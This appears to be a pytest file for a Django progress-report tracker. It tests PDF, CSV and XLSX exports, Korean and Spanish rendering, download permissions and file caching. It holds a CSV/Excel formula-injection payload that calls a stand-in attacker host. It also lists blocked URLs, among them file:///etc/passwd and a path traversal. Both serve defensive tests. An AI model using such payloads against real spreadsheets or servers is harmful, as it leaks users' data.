"""A progress report as files: the PDF (WeasyPrint), the CSV and the XLSX.

The PDFs are read back with poppler-utils (pdftotext, pdffonts), and Korean needs Debian's fonts-noto-cjk: in
CI (.ci/run installs both) a missing tool fails the test, elsewhere it skips it.
"""

import csv
import io
import re
import shutil
import subprocess
import time

import pytest
from django.urls import reverse
from django.utils import formats, translation

from tests.conftest import need_service
from tracker import reports
from tracker.models import Initiative, Ownership, ProgressReport
from tracker.report_pdf import STATIC_DIR, _url_fetcher, render_pdf

CATALOG_SIZE = 159


# --- Reading PDFs back -----------------------------------------------------------------------------------


def need_tool(name: str) -> None:
    if shutil.which(name) is None:
        need_service(name, "install Debian's poppler-utils to read the PDFs back")


def pdf_text(pdf: bytes, tmp_path) -> str:
    """The PDF's text, whitespace collapsed (a title may wrap over two lines)."""
    need_tool("pdftotext")
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True, text=True)
    return " ".join(out.stdout.split())


def pdf_fonts(pdf: bytes, tmp_path) -> list[dict]:
    """pdffonts' table: one dict per font, with its name and whether it is embedded."""
    need_tool("pdffonts")
    path = tmp_path / "fonts.pdf"
    path.write_bytes(pdf)
    out = subprocess.run(["pdffonts", str(path)], capture_output=True, check=True, text=True).stdout.splitlines()
    fonts = []
    for line in out[2:]:  # after the header and the dashes
        # name, type (may contain spaces), encoding, emb, sub, uni, object ID (two numbers)
        match = re.match(r"(\S+)\s+.*?\s+(yes|no)\s+(yes|no)\s+(yes|no)\s+\d+\s+\d+\s*$", line)
        assert match, f"cannot read pdffonts' line {line!r}"
        fonts.append({"name": match[1], "embedded": match[2] == "yes", "unicode": match[4] == "yes"})
    return fonts


def pdf_info(pdf: bytes, tmp_path) -> str:
    need_tool("pdfinfo")
    path = tmp_path / "info.pdf"
    path.write_bytes(pdf)
    return subprocess.run(["pdfinfo", str(path)], capture_output=True, check=True, text=True).stdout


def need_korean_font() -> None:
    need_tool("fc-list")
    if not subprocess.run(["fc-list", "Noto Sans CJK KR"], capture_output=True, text=True).stdout.strip():
        need_service("the Noto Sans CJK KR font", "install Debian's fonts-noto-cjk for Korean in PDFs")


# --- Reports and files ------------------------------------------------------------------------------------


def make_report(period, personas, title="Progress report 2026 Q4") -> ProgressReport:
    return ProgressReport.objects.create(period=period, title=title, created_by=personas.sec_mx)


def download(client, report, fmt):
    return client.get(reverse("tracker:progress-report-download", args=[report.pk, fmt]))


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def se_led_initiative() -> Initiative:
    """An initiative the Secretary of Economy (alice's agency) leads on the Mexican side."""
    return Ownership.objects.filter(agency__key="se", role="lead").select_related("initiative").first().initiative


# --- (a) A frozen report does not change ------------------------------------------------------------------


def test_a_frozen_report_is_unchanged_by_later_edits_and_accepted_updates(
    client, personas, period, make_update, tmp_path
):
    initiative = se_led_initiative()
    old_title = initiative.title
    lead_name = initiative.ownerships.get(agency__key="se").agency.name
    make_update(
        personas.alice,
        initiative.code,
        state="accepted",
        reviewer=personas.sec_mx,
        status="at_risk",
        progress=40,
        summary="Frozen summary: the working group met in Monterrey.",
    )
    report = reports.freeze_report(make_report(period, personas), user=personas.sec_mx)

    # After the freeze: a newer accepted update, and the initiative renamed.
    make_update(
        personas.alice,
        initiative.code,
        state="accepted",
        reviewer=personas.sec_mx,
        status="completed",
        progress=100,
        summary="Later summary: the agreement was signed.",
    )
    initiative.refresh_from_db()
    initiative.title = "Renamed after the freeze"
    initiative.save()

    client.force_login(personas.sec_mx)
    page = client.get(report.get_absolute_url()).content.decode()
    assert old_title.replace("'", "&#x27;") in page
    assert "Frozen summary: the working group met in Monterrey." in page
    assert "Renamed after the freeze" not in page
    assert "Later summary" not in page

    rows = csv_rows(body_of(download(client, report, "csv")))
    header = rows[0]
    mexico = next(r for r in rows[1:] if r[0] == initiative.code and r[header.index("Side")] == "Mexico")
    assert mexico[header.index("Title")] == old_title
    assert mexico[header.index("Status")] == "At risk"
    assert mexico[header.index("Progress (%)")] == "40"
    assert mexico[header.index("Latest accepted summary")] == "Frozen summary: the working group met in Monterrey."
    assert not any("Renamed after the freeze" in cell or "Later summary" in cell for row in rows for cell in row)

    text = pdf_text(body_of(download(client, report, "pdf")), tmp_path)
    assert old_title in text
    assert "Frozen summary: the working group met in Monterrey." in text
    assert f"Mexico: {lead_name} · At risk 40%" in text
    assert "Renamed after the freeze" not in text
    assert "Later summary" not in text
    assert "Completed 100%" not in text


# --- (b) The PDF holds the whole catalog -------------------------------------------------------------------


@pytest.mark.once
def test_b_the_pdf_lists_every_initiative_on_a4_pages_numbered_n_of_m(personas, period, tmp_path):
    report = make_report(period, personas)
    snapshot = reports.content(report)
    assert len(snapshot["initiatives"]) == CATALOG_SIZE

    started = time.process_time()
    pdf = render_pdf(report, snapshot, language="en")
    cpu = time.process_time() - started

    text = pdf_text(pdf, tmp_path)
    # pdftotext joins a word broken after a hyphen at the end of a line ("cost-" "effectively"): compare
    # without hyphens.
    unhyphenated = text.replace("-", "")
    initiatives = list(Initiative.objects.order_by("position"))
    missing = [i.code for i in initiatives if f"{i.code} {i.title}".replace("-", "") not in unhyphenated]
    assert not missing, f"initiatives missing from the PDF: {missing}"
    assert all(i.code in text for i in initiatives)
    for initiative in initiatives[::20]:  # a sample of titles, on their own as well
        assert initiative.title.replace("-", "") in unhyphenated

    # The print stylesheet was applied: A4 pages, each numbered "Page N of M".
    info = pdf_info(pdf, tmp_path)
    pages = int(re.search(r"Pages:\s+(\d+)", info)[1])
    assert "(A4)" in info
    assert f"Page 1 of {pages}" in text and f"Page {pages} of {pages}" in text
    assert "Status by theme" in text and "Status by High Level Meeting" in text and "Reporting compliance" in text

    # A guard against a layout that makes WeasyPrint crawl (about 2.5 s of CPU on the development machine).
    assert cpu < 15, f"rendering the whole catalog took {cpu:.1f} s of CPU"


# --- (c) Korean and Spanish ---------------------------------------------------------------------------------


def small_snapshot(report, count=6) -> dict:
    """The report's content cut to a few initiatives: enough to check the text, quicker to render."""
    snapshot = reports.content(report)
    snapshot["initiatives"] = snapshot["initiatives"][:count]
    return snapshot


@pytest.mark.once
def test_c_a_korean_pdf_shows_korean_text_in_an_embedded_cjk_font(personas, period, tmp_path):
    need_korean_font()
    report = make_report(period, personas, title="한국·멕시코 21세기 위원회 이행 보고서")
    snapshot = small_snapshot(report)
    snapshot["initiatives"][0]["title"] = "양국 간 경제 협력 강화"
    snapshot["initiatives"][0]["sides"]["KR"]["lead"] = "외교통상부"

    pdf = render_pdf(report, snapshot, language="ko")

    text = pdf_text(pdf, tmp_path)
    with translation.override("ko"):
        start = formats.date_format(period.start, "DATE_FORMAT")
    assert f"{period.start.year}년" in start  # Django's Korean date format, e.g. "2026년 9월 28일"
    assert start in text
    assert "한국·멕시코 21세기 위원회 이행 보고서" in text
    assert "양국 간 경제 협력 강화" in text
    assert "외교통상부" in text
    # The headings are the Korean catalog's, not English.
    with translation.override("ko"):
        headings = [translation.gettext(h) for h in ("Status by theme", "Reporting compliance", "Overdue updates")]
    assert all(h in text for h in headings) and "Status by theme" not in text, headings

    fonts = pdf_fonts(pdf, tmp_path)
    assert any(re.search(r"Noto.?Sans.?CJK", f["name"]) for f in fonts), fonts
    assert all(f["embedded"] and f["unicode"] for f in fonts), fonts


@pytest.mark.once
def test_c_a_spanish_pdf_renders_accented_letters(personas, period, tmp_path):
    report = make_report(period, personas, title="Informe de avance: cooperación en ciencia y tecnología")
    snapshot = small_snapshot(report)
    snapshot["initiatives"][0]["title"] = "Año de intercambio: diseño y enseñanza del español"
    snapshot["initiatives"][0]["sides"]["MX"]["lead"] = "Secretaría de Economía"

    pdf = render_pdf(report, snapshot, language="es")

    text = pdf_text(pdf, tmp_path)
    assert "Informe de avance: cooperación en ciencia y tecnología" in text
    assert "Año de intercambio: diseño y enseñanza del español" in text
    assert "Secretaría de Economía" in text
    with translation.override("es"):
        headings = [translation.gettext(h) for h in ("Status by theme", "Reporting compliance", "Overdue updates")]
    assert all(h in text for h in headings) and "Status by theme" not in text, headings
    with translation.override("es"):
        assert formats.date_format(period.due_date, "DATE_FORMAT") in text  # e.g. "12 de diciembre de 2026"
    assert all(f["embedded"] for f in pdf_fonts(pdf, tmp_path))


# --- (d) The spreadsheets: one row per initiative and side ---------------------------------------------------


def test_d_the_xlsx_and_the_csv_have_one_row_per_initiative_and_side(client, personas, period):
    from openpyxl import load_workbook

    report = make_report(period, personas)
    client.force_login(personas.sec_mx)
    codes = set(Initiative.objects.values_list("code", flat=True))
    assert len(codes) == CATALOG_SIZE

    rows = csv_rows(body_of(download(client, report, "csv")))
    assert len(rows) == 2 * CATALOG_SIZE + 1
    side = rows[0].index("Side")
    assert {(r[0], r[side]) for r in rows[1:]} == {(c, s) for c in codes for s in ("Mexico", "Korea")}

    sheet = load_workbook(io.BytesIO(body_of(download(client, report, "xlsx"))), read_only=True).active
    cells = list(sheet.iter_rows(values_only=True))
    assert len(cells) == 2 * CATALOG_SIZE + 1
    assert list(cells[0]) == rows[0]
    assert {(r[0], r[side]) for r in cells[1:]} == {(c, s) for c in codes for s in ("Mexico", "Korea")}


def test_d_a_summary_that_looks_like_a_formula_stays_text_in_both_files(client, personas, period, make_update):
    """An official's summary is opened by the secretariats in a spreadsheet: it must never run as a formula."""
    from openpyxl import load_workbook

    from tracker import actions

    typed = '=HYPERLINK("http://attacker.invalid/?"&A1,"Details")'
    update = make_update(personas.alice, se_led_initiative().code, summary=typed)
    actions.accept_update(update, user=personas.sec_mx)
    report = make_report(period, personas)
    client.force_login(personas.sec_mx)

    rows = csv_rows(body_of(download(client, report, "csv")))
    summary = rows[0].index("Latest accepted summary")
    assert "'" + typed in [row[summary] for row in rows[1:]]
    sheet = load_workbook(io.BytesIO(body_of(download(client, report, "xlsx")))).active
    cells = [row[summary] for row in sheet.iter_rows(min_row=2) if row[summary].value == typed]
    assert cells and all(cell.data_type == "s" for cell in cells)  # a string cell, not a formula ("f")


# --- (e) Who may download ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["pdf", "xlsx", "csv"])
def test_e_a_draft_reports_files_are_refused_to_officials_and_the_anonymous_are_sent_to_login(
    client, personas, period, fmt
):
    report = make_report(period, personas)
    url = reverse("tracker:progress-report-download", args=[report.pk, fmt])

    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login")) and "next=" in response["Location"]

    client.force_login(personas.alice)
    assert client.get(url).status_code == 404


@pytest.mark.parametrize(
    "fmt, content_type, magic",
    [
        ("pdf", "application/pdf", b"%PDF-"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", b"PK"),
        ("csv", "text/csv; charset=utf-8", "\ufeffCode".encode()),
    ],
)
def test_e_the_secretariat_downloads_a_draft_as_an_attachment(client, personas, period, fmt, content_type, magic):
    report = make_report(period, personas, title="Progress report 2026 Q4")
    client.force_login(personas.sec_kr)

    response = download(client, report, fmt)

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == f'attachment; filename="progress-report-2026-q4.{fmt}"'
    assert response.content.startswith(magic)


# --- Nothing is fetched from the network -------------------------------------------------------------------


def test_the_pdf_renderer_fetches_only_its_own_static_files():
    fetcher = _url_fetcher(STATIC_DIR)

    stylesheet = fetcher.fetch((STATIC_DIR / "css" / "report-print.css").as_uri())
    try:
        assert b"@page" in stylesheet.read()
    finally:
        stylesheet.close()
    for url in [
        "http://127.0.0.1:9/tracker.css",
        "https://example.invalid/font.woff2",
        "ftp://example.invalid/x",
        "data:text/css,body{}",
        "file:///etc/passwd",
        (STATIC_DIR / ".." / "tracker" / "settings.py").as_uri(),
        "file://example.invalid/static/css/report-print.css",
    ]:
        with pytest.raises(ValueError):
            fetcher.fetch(url)


# --- A frozen report's files are built once --------------------------------------------------------------------


@pytest.mark.once
def test_a_frozen_reports_pdf_is_built_once_per_language_and_served_from_then_on(client, personas, period, monkeypatch):
    from tracker import report_pdf

    builds = []
    real_render = report_pdf.render_pdf

    def counting_render(report, snapshot, *, language):
        builds.append(language)
        return real_render(report, {**snapshot, "initiatives": snapshot["initiatives"][:3]}, language=language)

    monkeypatch.setattr(report_pdf, "render_pdf", counting_render)
    report = make_report(period, personas)
    client.force_login(personas.sec_mx)

    draft = [body_of(download(client, report, "pdf")) for _ in range(2)]
    assert builds == ["en", "en"], "a draft's figures are live: each download builds its file afresh"

    reports.freeze_report(report, user=personas.sec_mx)
    builds.clear()
    first, second = (download(client, report, "pdf") for _ in range(2))
    assert builds == ["en"]
    assert first["Content-Disposition"] == 'attachment; filename="progress-report-2026-q4.pdf"'
    assert first["Content-Type"] == "application/pdf"
    english = body_of(first)
    assert english.startswith(b"%PDF-") and body_of(second) == english

    client.post(reverse("set_language"), {"language": "es", "next": "/"})
    spanish = body_of(download(client, report, "pdf"))
    assert builds == ["en", "es"], "another language is another file"
    assert spanish != english
    assert draft[0].startswith(b"%PDF-")


def test_a_title_with_characters_excel_forbids_in_sheet_names_still_downloads(client, personas, period):
    from openpyxl import load_workbook

    report = make_report(period, personas, title="Progress report: 2026 Q4 [draft] / SE*KR?")
    client.force_login(personas.sec_mx)
    response = download(client, report, "xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(body_of(response)), read_only=True).active
    assert sheet.title == "Progress report  2026 Q4  draft"


@pytest.mark.once
def test_freezing_a_report_has_its_files_built_in_every_language_before_anyone_asks(
    client, personas, period, monkeypatch, tmp_path
):
    from tracker import report_pdf, tasks

    report = make_report(period, personas)
    queued = []
    monkeypatch.setattr(tasks, "kick_report_files", queued.append)
    client.force_login(personas.sec_kr)
    client.post(reverse("tracker:progress-report-state", args=[report.pk]), {"action": "freeze"})
    assert queued == [report.pk]

    tasks.build_report_files(report.pk)  # what the worker runs
    built = list((tmp_path / "report-cache").iterdir())
    assert len(built) == 3 * 3  # PDF, XLSX and CSV in English, Spanish and Korean

    def no_rendering(*args, **kwargs):
        raise AssertionError("a frozen report's file was built again at download time")

    monkeypatch.setattr(report_pdf, "render_pdf", no_rendering)
    for language in ("ko", "es", "en"):
        client.post(reverse("set_language"), {"language": language, "next": "/"})
        response = download(client, report, "pdf")
        assert body_of(response).startswith(b"%PDF-")
    # One file serves every reader: its times are in UTC, named so.
    for pdf in (path for path in built if path.suffix == ".pdf"):
        assert " UTC" in pdf_text(pdf.read_bytes(), tmp_path), pdf.name
